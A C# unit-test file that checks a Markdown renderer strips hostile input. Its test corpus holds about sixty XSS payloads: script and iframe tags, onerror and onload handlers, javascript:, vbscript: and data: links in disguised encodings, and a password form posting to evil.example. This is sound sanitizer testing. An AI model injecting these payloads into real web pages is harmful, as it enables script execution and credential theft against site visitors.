using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using KennisHub.Core.Markdown;

namespace KennisHub.Core.Tests.Markdown;

/// <summary>
/// Hostile Markdown and HTML: whatever goes in, the rendered HTML (parsed the way a browser would) holds no script,
/// no event handler, no style, no embedded document, and no link or image to anything but http, https, mailto or
/// a relative URL.
/// </summary>
public sealed class MarkdownAttackTests
{
    private static readonly string[] ForbiddenElements =
        ["script", "iframe", "frame", "frameset", "object", "embed", "svg", "math", "style", "link", "meta", "base", "form", "button", "textarea", "select", "video", "audio", "template"];

    public static TheoryData<string> Attacks() => new(
        // Raw HTML: disabled in the pipeline, sanitized anyway.
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<a href=\"javascript:alert(1)\">klik</a>",
        "<svg onload=alert(1)><circle r=10 /></svg>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<p style=\"color:red\">rood</p>",
        "<style>body{display:none}</style>",
        "<form action=\"https://evil.example\"><input name=p type=password></form>",
        "<input type=\"checkbox\" onclick=\"alert(1)\">",
        "<details open ontoggle=alert(1)>",
        "<body onload=alert(1)>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=\"x\" / onerror=\"alert(1)\"",
        "<<script>alert(1);//<</script>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<base href=\"javascript:alert(1)//\">",
        "<!-- <script>alert(1)</script> -->",

        // Markdown links and images with dangerous schemes, disguised.
        "[klik](javascript:alert(1))",
        "[klik](JavaScript:alert(1))",
        "[klik](  javascript:alert(1)  )",
        "[klik](jav&#x61;script:alert(1))",
        "[klik](jav&#97;script:alert(1))",
        "[klik](java&#x09;script:alert(1))",
        "[klik](<java\nscript:alert(1)>)",
        "[klik](vbscript:msgbox(1))",
        "[klik](VBScript:msgbox(1))",
        "[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[klik](DATA:text/html,<script>alert(1)</script>)",
        "[klik](file:///etc/passwd)",
        "![plaatje](javascript:alert(1))",
        "![plaatje](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "![plaatje](\"onerror=\"alert(1))",
        "[klik][ref]\n\n[ref]: javascript:alert(1)",
        "[klik][ref]\n\n[ref]: JAVASCRIPT:alert(1) \"titel\"",
        "![plaatje][img]\n\n[img]: vbscript:msgbox(1)",
        "<javascript:alert(1)>",
        "<JAVASCRIPT:alert(1)>",
        "<vbscript:msgbox(1)>",
        "<data:text/html,<script>alert(1)</script>>",
        "www.example.org\"onmouseover=\"alert(1)",
        "[klik](https://example.org\"onmouseover=\"alert(1))",
        "[klik](https://example.org \"titel\" onclick=alert(1))",
        "[x](#\"onclick=\"alert(1))",

        // Generic attributes are not enabled: braces stay text.
        "# Kop {onclick=alert(1) style=color:red}",
        "[link](https://example.org){onclick=alert(1)}",

        // Broken and nested constructs.
        "[a [b](javascript:alert(1)) c](https://example.org)",
        "**[vet](javascript:alert(1))**",
        "| kol |\n|-----|\n| [x](javascript:alert(1)) |",
        "- [ ] <img src=x onerror=alert(1)>",
        "Tekst[^1]\n\n[^1]: [voetnoot](javascript:alert(1))",
        "> [citaat](vbscript:x)");

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Hostile_input_renders_to_harmless_html(string markdown)
    {
        var html = new MarkdownRenderer().Render(markdown).Html;
        var document = new HtmlParser().ParseDocument("<!DOCTYPE html><html><body>" + html + "</body></html>");

        foreach (var element in document.Body!.QuerySelectorAll("*"))
        {
            ForbiddenElements.ShouldNotContain(element.LocalName, $"in: {html}");
            if (element.LocalName == "input")
            {
                element.GetAttribute("type").ShouldBe("checkbox");
                element.HasAttribute("disabled").ShouldBeTrue();
            }

            foreach (var attribute in element.Attributes)
            {
                attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase).ShouldBeFalse($"{attribute.Name} in: {html}");
                attribute.Name.ShouldNotBe("style", $"in: {html}");
                if (attribute.Name is "href" or "src" or "action" or "formaction" or "xlink:href" or "data" or "srcset")
                {
                    IsHarmlessUrl(attribute.Value).ShouldBeTrue($"{attribute.Name}=\"{attribute.Value}\" in: {html}");
                }
            }
        }
    }

    [Fact]
    public void The_attack_corpus_has_at_least_forty_cases() => Attacks().Count.ShouldBeGreaterThanOrEqualTo(40);

    [Fact]
    public void A_refused_link_keeps_its_text()
    {
        var html = new MarkdownRenderer().Render("Lees [de handreiking](javascript:alert(1)) nu.").Html;
        html.ShouldBe("<p>Lees de handreiking nu.</p>\n");
    }

    [Fact]
    public void A_refused_image_keeps_its_alt_text()
    {
        var html = new MarkdownRenderer().Render("![kaart van de wijk](data:image/png;base64,AAAA)").Html;
        html.ShouldBe("<p>kaart van de wijk</p>\n");
    }

    [Theory]
    [InlineData("https://www.crow.nl", true)]
    [InlineData("HTTP://example.org", true)]
    [InlineData("mailto:info@example.org", true)]
    [InlineData("/kennis/beeldkwaliteit", true)]
    [InlineData("#zorgplicht", true)]
    [InlineData("../themas?x=a:b", true)]
    [InlineData("javascript:alert(1)", false)]
    [InlineData(" JaVaScRiPt:alert(1)", false)]
    [InlineData("jav&#x61;script:alert(1)", false)]
    [InlineData("jav&amp;#x61;script:alert(1)", false)]
    [InlineData("java\tscript:alert(1)", false)]
    [InlineData("java\u0000script:alert(1)", false)]
    [InlineData("vbscript:x", false)]
    [InlineData("data:text/html,x", false)]
    [InlineData("ftp://example.org", false)]
    public void The_link_filter_allows_only_http_https_mailto_and_relative_urls(string url, bool safe)
        => LinkFilter.IsSafe(url).ShouldBe(safe);

    /// <summary>An independent check (not the filter under test): scheme-less, or http, https, mailto.</summary>
    private static bool IsHarmlessUrl(string value)
    {
        var compact = new string(value.Where(c => !char.IsWhiteSpace(c) && !char.IsControl(c)).ToArray()).ToLowerInvariant();
        var colon = compact.IndexOf(':', StringComparison.Ordinal);
        var firstDelimiter = compact.IndexOfAny(['/', '?', '#']);
        var hasScheme = colon >= 0 && (firstDelimiter < 0 || colon < firstDelimiter);
        return !hasScheme || compact.StartsWith("http:", StringComparison.Ordinal)
            || compact.StartsWith("https:", StringComparison.Ordinal) || compact.StartsWith("mailto:", StringComparison.Ordinal);
    }
}
